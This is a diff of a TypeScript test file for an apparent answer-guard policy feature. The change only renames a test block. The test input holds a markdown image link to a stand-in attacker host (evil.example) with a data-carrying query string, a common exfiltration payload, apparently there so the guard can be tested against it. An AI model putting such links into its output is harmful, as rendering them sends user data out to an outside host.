@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest'
 import type { ModelReply, ModelRequest } from '#contracts/model.ts'
 import { createAnswerGuard } from '../../../src/features/policy/answers/answer-guard.ts'
 
-describe('what is asked of a person', () => {
+describe('a question to a person', () => {
   const input = { question: 'Is ![this](https://evil.example/?d=notes) right?' }
   const calls = [
     { id: '1', name: 'isola__ask', input },
